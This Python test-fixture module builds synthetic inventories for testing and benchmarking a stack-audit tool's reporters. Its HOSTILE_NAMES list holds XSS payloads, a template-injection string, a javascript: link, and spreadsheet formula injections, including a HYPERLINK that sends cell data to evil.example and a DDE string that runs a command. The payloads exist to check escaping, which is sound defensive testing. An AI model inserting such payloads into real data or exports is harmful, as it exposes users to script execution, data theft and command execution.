"""Stacks for testing reporters, ours and third parties' alike.

- :func:`hostile_stack`: a small stack whose every name a tenant admin controls (system, OAuth app, webhook,
  account, credential, coverage reason, even the organisation) is an attack on a renderer: HTML and script
  injection, spreadsheet formulas, Markdown links, JavaScript line separators. A reporter must show them as
  text. :data:`HOSTILE_NAMES` lists them.
- :func:`large_stack`: a synthetic stack of any size (2,000 systems for the HTML report's benchmark), shaped
  like a real enterprise: business units of scanned tenants around a CRM, outside services each unit talks
  to, popular services every unit shares.

Both return an inventory and the config to evaluate it with (:func:`stackaudit.audit.evaluate`).
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

from stackaudit.config import Config, SanctionedSystem
from stackaudit.model import (
    Account,
    AccountKind,
    ConnectionResult,
    CoverageGap,
    CoverageStatus,
    Credential,
    DataCategory,
    Evidence,
    Flow,
    Integration,
    Inventory,
    OwnerHint,
    Record,
    System,
    SystemKind,
    TriState,
    external_id,
    record_id,
)

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)

SCRIPT_TAG = "</script><script>window.__pwned=1</script>"
IMG_ONERROR = "<img src=x onerror=alert(1)>"
HOSTILE_NAMES = (
    IMG_ONERROR,
    SCRIPT_TAG,
    "\"><svg onload=alert(1)>",
    "'><iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "[click me](javascript:alert(1))",
    "line\u2028separator\u2029paragraph",
    "{{constructor.constructor('window.__pwned=1')()}}",
)


def _ev(connection: str, source: str, object_id: str = "") -> tuple[Evidence, ...]:
    return (Evidence(connection, source, object_id),)


def hostile_stack() -> tuple[Inventory, Config]:
    """Two tenants, outside services, apps, webhooks and accounts, all named by :data:`HOSTILE_NAMES`."""
    names = HOSTILE_NAMES
    records: list[Record] = []
    crm, site = "evil-crm", "evil-site"
    crm_id = record_id(crm, "tenant", "00D1")
    site_id = record_id(site, "tenant", "site-1")
    records.append(System(id=crm_id, name=IMG_ONERROR, vendor="salesforce", category="crm",
                          data=(DataCategory.PII, DataCategory.CONTACT),
                          evidence=_ev(crm, "SOQL Organization", "00D1")))
    records.append(System(id=site_id, name=SCRIPT_TAG, vendor="wordpress", category="cms",
                          data=(DataCategory.CONTENT,), evidence=_ev(site, "GET /wp-json")))
    for i, name in enumerate(names):
        host = f"hook{i}.evil.example"
        target = external_id(host=host)
        records.append(System(id=target, name=name, system_kind=SystemKind.EXTERNAL, domain=host,
                              evidence=_ev(crm, "Named credential", f"nc{i}")))
        records.append(Flow(id=record_id(crm, "flow", f"hook{i}"), source=crm_id, target=target,
                            flow_kind="webhook", name=name, url=f"http://{host}/in", scheme="http",
                            data=(DataCategory.PII, DataCategory.CONTACT),
                            owners=(OwnerHint("created_by", "mallory@evil.example", name),),
                            evidence=_ev(crm, "Outbound message", f"om{i}")))
        app = record_id(crm, "app", f"app{i}")
        records.append(Integration(id=app, system=crm_id, name=name, integration_kind="connected_app",
                                   publisher=name, users=2, scopes=("api", "refresh_token"),
                                   evidence=_ev(crm, "ConnectedApplication", f"app{i}")))
        records.append(Flow(id=record_id(crm, "grant", f"app{i}"), source=crm_id,
                            target=external_id(name=f"evil app {i}"), flow_kind="oauth_grant", integration=app,
                            name=name, data=(DataCategory.CONTACT,), evidence=_ev(crm, "OauthToken", f"t{i}")))
        records.append(System(id=external_id(name=f"evil app {i}"), name=name, system_kind=SystemKind.EXTERNAL,
                              evidence=_ev(crm, "ConnectedApplication", f"app{i}")))
        account = record_id(crm, "user", f"u{i}")
        records.append(Account(id=account, system=crm_id, username=f"user{i}@evil.example",
                               email=f"user{i}@evil.example", name=name, admin=True, mfa=TriState.NO,
                               roles=(name,), last_login_at=NOW - timedelta(days=400),
                               evidence=_ev(crm, "SOQL User", f"u{i}")))
        records.append(Credential(id=record_id(crm, "token", f"t{i}"), system=crm_id, credential_kind="oauth_token",
                                  name=name, integration=app, account=account, created_at=NOW - timedelta(days=900),
                                  last_used_at=NOW - timedelta(days=500), evidence=_ev(crm, "OauthToken", f"t{i}")))
        records.append(Flow(id=record_id(site, "plugin", f"p{i}"), source=site_id, target=crm_id,
                            flow_kind="plugin", name=name, data=(DataCategory.CONTACT,),
                            evidence=_ev(site, "GET /wp/v2/plugins", f"p{i}")))
    connections = [
        ConnectionResult(crm, "salesforce", CoverageStatus.COMPLETE, requests=12, records={"system": 1}),
        ConnectionResult(site, "wordpress", CoverageStatus.PARTIAL, requests=4, message=names[1]),
    ]
    gaps = [CoverageGap(site, names[0], names[2], "PermissionDeniedError")]
    inventory = Inventory(records=records, connections=connections, gaps=gaps, organization=names[1],
                          generated_at=NOW, generator="stackaudit test")
    config = Config(
        organization=names[1],
        email_domains=("evil.example",),
        systems=(SanctionedSystem(id="crm", name=names[0], vendor="salesforce", owner="owner@evil.example",
                                  data=(DataCategory.PII, DataCategory.CONTACT)),),
    )
    return inventory, config


# -- a large enterprise stack ------------------------------------------------------------------------------

UNIT_TENANTS = (("salesforce", "crm"), ("hubspot", "marketing-automation"), ("marketo", "marketing-automation"),
                ("mailchimp", "email-marketing"), ("wordpress", "cms"), ("contentful", "cms"),
                ("segment", "cdp"), ("google-analytics", "analytics"), ("zendesk", "other"), ("slack", "productivity"))
SHARED = ("hooks.zapier.com", "api.segment.io", "hooks.slack.com", "api.intercom.io", "api.typeform.com",
          "hook.eu1.make.com", "api.stripe.com", "api.amplitude.com", "api.mixpanel.com", "graph.facebook.com",
          "api.linkedin.com", "api.openai.com", "calendly.com", "api.zoominfo.com", "api.clearbit.com")
DATA = (DataCategory.PII, DataCategory.CONTACT, DataCategory.BEHAVIORAL, DataCategory.MARKETING,
        DataCategory.CONTENT)
FLOW_KINDS = ("webhook", "outbound_endpoint", "destination", "api", "oauth_grant")


def large_stack(systems: int = 2000, *, seed: int = 7) -> tuple[Inventory, Config]:
    """About ``systems`` systems: units of 10 scanned tenants and 90 outside services, plus shared services.

    Most services are reached by one tenant (so the report groups them), some by two or three, the shared
    ones by many; a third of the services are sanctioned; a few flows use plain http; some admins lack MFA.
    """
    rng = random.Random(seed)
    units = max(1, round((systems - len(SHARED)) / 100))
    records: list[Record] = []
    connections: list[ConnectionResult] = []
    registry: list[SanctionedSystem] = []
    shared = [external_id(host=h) for h in SHARED]
    for host, node in zip(SHARED, shared, strict=True):
        records.append(System(id=node, name=host, system_kind=SystemKind.EXTERNAL, domain=host,
                              evidence=_ev("unit0-salesforce", "config")))
    for u in range(units):
        tenants = []
        for vendor, category in UNIT_TENANTS:
            connection = f"unit{u}-{vendor}"
            tenant = record_id(connection, "tenant", f"{u}")
            tenants.append(tenant)
            records.append(System(id=tenant, name=f"Unit {u} {vendor}", vendor=vendor, category=category,
                                  data=tuple(rng.sample(DATA, 2)), evidence=_ev(connection, "tenant", str(u))))
            connections.append(ConnectionResult(connection, vendor, CoverageStatus.COMPLETE, requests=10))
            registry.append(SanctionedSystem(id=connection, name=f"Unit {u} {vendor}", vendor=vendor,
                                             owner=f"owner{u}@corp.example", domains=(f"unit{u}-{vendor}.example",)))
            for a in range(6):
                records.append(Account(id=record_id(connection, "user", str(a)), system=tenant,
                                       email=f"user{a}.{u}@corp.example", name=f"User {a}", admin=a == 0,
                                       mfa=TriState.NO if a == 0 and rng.random() < 0.2 else TriState.YES,
                                       last_login_at=NOW - timedelta(days=rng.randint(1, 200)),
                                       account_kind=AccountKind.HUMAN, evidence=_ev(connection, "users", str(a))))
        crm = tenants[0]
        for other in tenants[1:4]:
            for source, target in ((crm, other), (other, crm)):
                records.append(Flow(id=f"{source}>{target}:sync", source=source, target=target, flow_kind="native_sync",
                                    data=(DataCategory.CONTACT, DataCategory.PII), evidence=_ev("sync", "sync")))
        for s in range(90):
            host = f"svc{s}.unit{u}.example"
            node = external_id(host=host)
            records.append(System(id=node, name=host, system_kind=SystemKind.EXTERNAL, domain=host,
                                  evidence=_ev(f"unit{u}-salesforce", "endpoint", host)))
            if s % 3 == 0:
                registry.append(SanctionedSystem(id=f"svc{s}-{u}", name=host, vendor="", domains=(host,),
                                                 owner=f"owner{u}@corp.example"))
            reach = 1 if rng.random() < 0.75 else rng.randint(2, 3)
            for t in rng.sample(tenants, reach):
                kind = rng.choice(FLOW_KINDS)
                scheme = "http" if rng.random() < 0.03 else "https"
                records.append(Flow(id=f"{t}>{node}:{kind}", source=t, target=node, flow_kind=kind,
                                    name=f"{kind} to {host}", data=tuple(rng.sample(DATA, rng.randint(1, 2))),
                                    url=f"{scheme}://{host}/hook", scheme=scheme,
                                    evidence=_ev(t.split(":", 1)[0], "flows", node)))
        for node in rng.sample(shared, 6):
            t = rng.choice(tenants)
            records.append(Flow(id=f"{t}>{node}", source=t, target=node, flow_kind="webhook",
                                data=(DataCategory.CONTACT,), url=f"https://{node.split(':', 1)[1]}/h",
                                scheme="https", evidence=_ev(t.split(":", 1)[0], "flows", node)))
    inventory = Inventory(records=records, connections=connections, organization="Large Corp", generated_at=NOW,
                          generator="stackaudit benchmark")
    config = Config(organization="Large Corp", email_domains=("corp.example",), systems=tuple(registry))
    return inventory, config
